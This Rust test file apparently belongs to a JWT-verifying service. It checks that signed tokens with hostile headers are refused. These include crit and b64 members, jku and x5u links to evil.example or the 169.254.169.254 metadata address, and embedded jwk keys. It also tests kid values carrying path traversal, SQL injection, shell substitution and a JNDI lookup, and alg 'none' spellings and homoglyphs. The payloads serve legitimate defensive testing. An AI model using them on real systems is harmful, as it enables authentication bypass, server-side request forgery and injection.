//! Headers that ask for more than one signature with one of our keys. All are rightly signed, so that only
//! the header can be why they are refused.

use super::*;
use mint::{ED25519, HMAC, Key, P256, RSA};

/// A token whose header has this text behind `alg` and `kid`, rightly signed.
fn with_member(key: &Key, algorithm: &str, member: &str) -> String {
    let header = format!("{{\"alg\":\"{algorithm}\",\"kid\":\"{}\",{member}}}", key.kid);
    raw_token(header, good_claims().to_string(), |input| key.sign(algorithm, input))
}

const KEYS: [(&str, &std::sync::LazyLock<Key>); 4] =
    [("HS256", &HMAC), ("RS256", &RSA), ("ES256", &P256), ("EdDSA", &ED25519)];

#[tokio::test]
async fn a_header_that_asks_for_more_than_a_signature_is_refused() {
    let elsewhere = Origin::start().await;
    let url = format!("http://{}/keys", elsewhere.addr);
    let mut siege = Siege::of(|setup| setup).await;
    let stranger = Key::ec("p256", "P-256");
    let certificate = base64url(&stranger.spki());
    let (jwk, pem) = (stranger.jwk().to_string(), json!(stranger.pem()).to_string());
    let members: Vec<String> = [
        r#""crit":["exp"],"exp":4102444800"#,
        r#""crit":["exp"]"#,
        r#""crit":["b64"],"b64":true"#,
        r#""crit":["b64"],"b64":false"#,
        r#""crit":["b64"]"#,
        r#""crit":["alg"]"#,
        r#""crit":["crit"]"#,
        r#""crit":["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true"#,
        r#""crit":["exp","exp"],"exp":1"#,
        r#""crit":[]"#,
        r#""crit":[""],"":1"#,
        r#""crit":[null]"#,
        r#""crit":[["exp"]]"#,
        r#""crit":{}"#,
        r#""crit":null"#,
        r#""crit":"""#,
        r#""crit":false"#,
        r#""\u0063rit":["exp"]"#,
        r#""b64":true"#,
        r#""b64":false"#,
        r#""b64":null"#,
        r#""zip":"DEF""#,
        r#""zip":null"#,
        r#""enc":"A256GCM""#,
        r#""cty":"JWT""#,
        r#""cty":"jwt""#,
        r#""cty":null"#,
        r#""jwk":{}"#,
        r#""jwk":null"#,
        r#""jku":"https://issuer.example/jwks.json""#,
        r#""jku":"https://issuer.example@evil.example/jwks.json""#,
        r#""jku":"file:///etc/passwd""#,
        r#""jku":"data:application/json,{}""#,
        r#""jku":"//evil.example/jwks.json""#,
        r#""x5u":"http://169.254.169.254/latest/meta-data""#,
        r#""x5c":[]"#,
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([
        format!("\"jwk\":{jwk}"),
        format!("\"jwk\":{{\"keys\":[{jwk}]}}"),
        format!("\"jwk\":{pem}"),
        format!("\"\\u006awk\":{jwk}"),
        format!("\"jku\":\"{url}\""),
        format!("\"jku\":[\"{url}\"]"),
        format!("\"x5u\":\"{url}\""),
        format!("\"x5c\":[\"{certificate}\"]"),
        format!("\"x5c\":\"{certificate}\",\"x5t\":\"AAAA\""),
    ])
    .collect();
    for (algorithm, key) in KEYS {
        let good = key.token(algorithm, &good_claims());
        for member in &members {
            let hostile = with_member(key, algorithm, member);
            let name = format!("{algorithm}, {member}");
            siege.refuses_token(&name, (&good, &hostile), "refused_header_member").await;
        }
    }
    // Members that say nothing about how to read it are nothing to us, whatever they hold.
    for member in [
        r#""x5t":"AAAA","x5t#S256":"AAAA""#,
        r#""epk":{"kty":"EC"},"apu":"AA","apv":"AA""#,
        r#""p2c":2147483647,"p2s":"AA""#,
        r#""Crit":["exp"],"JWK":{},"jKu":"https://evil.example""#,
        r#""nonce":"x","ppt":"x","iss":"https://evil.example""#,
        r#""__proto__":{"crit":[],"alg":"none"}"#,
    ] {
        for (algorithm, key) in KEYS {
            let token = with_member(key, algorithm, member);
            siege.passes(member, &get("/").bearer(&token)).await;
        }
    }
    elsewhere.must_be_untouched();
    siege.must_have_held().await;
}

#[tokio::test]
async fn no_kid_is_anything_but_the_name_of_a_key() {
    let mut siege = Siege::of(|setup| setup).await;
    let texts = [
        "unknown",
        "",
        " ",
        "hmac ",
        " hmac",
        "HMAC",
        "Hmac",
        "hmac\0",
        "\0",
        "hmac\n",
        "hmac,p256",
        "hmac p256",
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "file:///dev/null",
        "/proc/self/environ",
        "https://evil.example/key",
        "JWT_KEYS",
        "ADMIN_TOKEN",
        "ASSERTION_KEY",
        "env.JWT_KEYS",
        "' OR 1=1 --",
        "' UNION SELECT 'x' --",
        "\"; DROP TABLE keys; --",
        "{\"$ne\":null}",
        "*",
        "%",
        ".*",
        "?",
        "|id",
        "$(id)",
        "`id`",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%00",
        "%68mac",
        "hmac%00",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "0",
        "-1",
        "1",
        "null",
        "undefined",
        "NaN",
        "h\u{43c}ac",
        "hma\u{441}",
        "\u{feff}hmac",
        "hmac\u{200b}",
        "\u{ff48}mac",
        "\u{202e}camh",
    ];
    for (algorithm, key) in KEYS {
        let good = key.token(algorithm, &good_claims());
        for text in texts {
            let header = json!({ "alg": algorithm, "kid": text });
            let hostile = key.token_with_header(&header, &good_claims());
            let name = format!("{algorithm}, {text:?}");
            siege.refuses_token(&name, (&good, &hostile), "unknown_key").await;
        }
        for (kid, reason) in [
            (json!("k".repeat(4_500)), "unknown_key"),
            (json!(0), "malformed_header"),
            (json!(-1), "malformed_header"),
            (json!(true), "malformed_header"),
            (json!([key.kid]), "malformed_header"),
            (json!({ "kid": key.kid }), "malformed_header"),
        ] {
            let header = json!({ "alg": algorithm, "kid": kid });
            let hostile = key.token_with_header(&header, &good_claims());
            let name = format!("{algorithm}, {}", &kid.to_string()[..1]);
            siege.refuses_token(&name, (&good, &hostile), reason).await;
        }
        let header = format!("{{\"alg\":\"{algorithm}\",\"kid\":null}}");
        let hostile =
            raw_token(header, good_claims().to_string(), |input| key.sign(algorithm, input));
        siege.refuses_token("null", (&good, &hostile), "malformed_header").await;
    }
    siege.must_have_held().await;
}

#[tokio::test]
async fn no_spelling_of_alg_chooses_another_algorithm() {
    let mut siege =
        Siege::of(|setup| setup.set("providers.0.algorithms", json!(["ES256", "EdDSA"]))).await;
    let good = mint::token();
    let not_allowed = [
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "none\0",
        "n\u{f6}ne",
        "n\u{43e}ne",
        "",
        " ",
        "null",
        "es256",
        "Es256",
        "ES256 ",
        " ES256",
        "ES-256",
        "ES256\0",
        "ES256,none",
        "ES256;none",
        "ES256K",
        "ES512256",
        "EDDSA",
        "eddsa",
        "Ed25519",
        "Ed448",
        "EdDSA ",
        "ECDSA",
        "SHA256",
        "HS256",
        "HS1",
        "MD5",
        "RS256",
        "PS256",
        "ES384",
        "ES512",
        "RS1",
        "dir",
        "A128KW",
        "RSA-OAEP",
        "RSA1_5",
        "ECDH-ES",
        "PBES2-HS256+A128KW",
        "ML-DSA-44",
        "ESP256",
        "ESB256",
        "SLH-DSA-SHA2-128s",
        "toString",
        "__proto__",
        "constructor",
        "../ES256",
        "E\u{405}256",
    ];
    let header = |alg: &str| format!("{{\"alg\":{alg},\"kid\":\"p256\"}}");
    let signed = |header: String| {
        raw_token(header, good_claims().to_string(), |input| P256.sign("ES256", input))
    };
    let quoted = not_allowed.iter().map(|alg| (json!(alg).to_string(), "algorithm_not_allowed"));
    let escaped = [(r#""\u006eone""#.to_owned(), "algorithm_not_allowed")];
    let untyped =
        ["null", "true", "false", "0", "256", "[]", "[\"ES256\"]", "{}", "{\"alg\":\"ES256\"}"]
            .map(|alg| (alg.to_owned(), "malformed_header"));
    for (alg, reason) in quoted.chain(escaped).chain(untyped) {
        let token = signed(header(&alg));
        siege.refuses_token(&alg, (&good, &token), reason).await;
        // The same without its signature, and with that of the good one.
        let [head, claims, _] = parts(&token);
        let [.., signature] = parts(&good);
        for signature in ["", signature] {
            let token = format!("{head}.{claims}.{signature}");
            let name = format!("{alg} with {signature:.5}");
            siege.refuses_token(&name, (&good, &token), reason).await;
        }
    }
    let without = signed(r#"{"kid":"p256","typ":"JWT"}"#.to_owned());
    siege.refuses_token("absent", (&good, &without), "malformed_header").await;
    let spelled = signed(header(r#""\u0045S256""#));
    siege.passes("the same, escaped", &get("/").bearer(&spelled)).await;
    siege.must_have_held().await;
}

#[tokio::test]
async fn a_token_of_another_kind_stays_one_in_every_spelling() {
    let mut siege = Siege::of(|setup| setup).await;
    let good = mint::token();
    let typed = |typ: &str| {
        let header = format!("{{\"alg\":\"ES256\",\"kid\":\"p256\",\"typ\":{typ}}}");
        raw_token(header, good_claims().to_string(), |input| P256.sign("ES256", input))
    };
    for typ in [
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "id+jwt",
        "rt+jwt",
        "token-introspection+jwt",
        "oauth-authz-req+jwt",
        "client-authentication+jwt",
        "kb+jwt",
        "dc+sd-jwt",
        "entity-statement+jwt",
        "JOSE",
        "JOSE+JSON",
        "JWE",
        "JWS",
        "JWK",
        "LOGOUT+JWT",
        "application/logout+jwt",
        "Application/DPOP+JWT",
        "JWT ",
        " JWT",
        "JWT\0",
        "JWT;x=1",
        "JWT,JWT",
        "at+jwt2",
        "xat+jwt",
        "at jwt",
        "at%2bjwt",
        "application/",
        "application/application/jwt",
        "text/jwt",
        "\u{458}wt",
    ] {
        let hostile = typed(&json!(typ).to_string());
        siege.refuses_token(typ, (&good, &hostile), "type_not_allowed").await;
    }
    for typ in ["null", "0", "true", "[\"JWT\"]", "{}"] {
        siege.refuses_token(typ, (&good, &typed(typ)), "malformed_header").await;
    }
    // Media types are the same in every case, and without their prefix (RFC 7515 section 4.1.9).
    for typ in ["\"JWT\"", "\"jwt\"", "\"application/JWT\"", "\"at+jwt\"", "\"\\u004aWT\"", "\"\""]
    {
        siege.passes(typ, &get("/").bearer(&typed(typ))).await;
    }
    siege.must_have_held().await;
}
